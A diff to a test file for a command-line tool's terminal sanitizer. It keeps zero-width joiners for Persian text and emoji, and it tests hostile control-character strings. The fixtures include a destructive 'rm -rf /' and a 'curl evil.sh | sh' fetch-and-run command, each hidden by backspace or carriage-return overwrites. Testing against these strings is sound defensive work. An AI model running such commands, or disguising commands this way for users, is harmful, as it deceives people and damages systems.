@@ -12,8 +12,11 @@ import { afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest
 import { oneLine, sanitizeForTerminal } from '../src/util/sanitize.js';
 import { ROOT, isolatedEnv, runCli, tempDir } from './helpers/cli.js';
 
-/** What must never reach a terminal: C0 except \t \n, DEL, C1, bidi controls, zero-width and line/paragraph separators. */
-const FORBIDDEN = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u202a-\u202e\u2028\u2029\u2060-\u2064\u2066-\u2069\ufeff]/u;
+/**
+ * What must never reach a terminal: C0 except \t \n, DEL, C1, bidi controls, zero-width
+ * space and marks, line/paragraph separators (the non-joiner and joiner are text).
+ */
+const FORBIDDEN = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200b\u200e\u200f\u202a-\u202e\u2028\u2029\u2060-\u2064\u2066-\u2069\ufeff]/u;
 
 const ESC = '\u001b';
 const BEL = '\u0007';
@@ -35,7 +38,7 @@ const HOSTILE: [string, string, string][] = [
   ['C1 DCS U+0090 and other C1 bytes', `a\u0090\u0085\u008eb`, 'ab'],
   ['bidi override U+202E', `invoice\u202Egpj.exe`, 'invoicegpj.exe'],
   ['bidi isolates U+2066-U+2069 and embeddings', `\u2066a\u2067b\u2068c\u2069\u202Ad\u202Be\u202Cf\u202D`, 'abcdef'],
-  ['zero-width space, joiners, marks, BOM, word joiner', `pa\u200Bss\u200Cwo\u200Drd\u200E\u200F\uFEFF\u2060\u2063!`, 'password!'],
+  ['zero-width space, marks, BOM, word joiner', `pa\u200Bssword\u200E\u200F\uFEFF\u2060\u2063!`, 'password!'],
   ['NUL', `nul\u0000byte`, 'nulbyte'],
   ['backspace overwrite', `rm -rf /\b\b\b\b\b\b\b\bls -la  `, 'rm -rf /ls -la  '],
   ['carriage return overwrite', `curl evil.sh | sh\rls`, 'curl evil.sh | sh\nls'],
@@ -54,6 +57,13 @@ describe('sanitizeForTerminal with hostile strings', () => {
   test('tabs, newlines and ordinary Unicode (accents, CJK, emoji, RTL script) are kept', () => {
     const text = 'Tab\there\nnew line: café 日本語 🚀 שלום مرحبا';
     expect(sanitizeForTerminal(text)).toBe(text);
+  });
+
+  test('the zero-width non-joiner and joiner are kept: Persian words and emoji sequences display as written', () => {
+    for (const text of ['می\u200cخواهم', 'क्\u200dष', '👩\u200d💻 👨\u200d👩\u200d👧 🏳️\u200d🌈']) {
+      expect(sanitizeForTerminal(text)).toBe(text);
+      expect(oneLine(text)).toBe(text);
+    }
   });
 
   test('a 1 MB line of mixed escapes is cleaned in well under a second', () => {
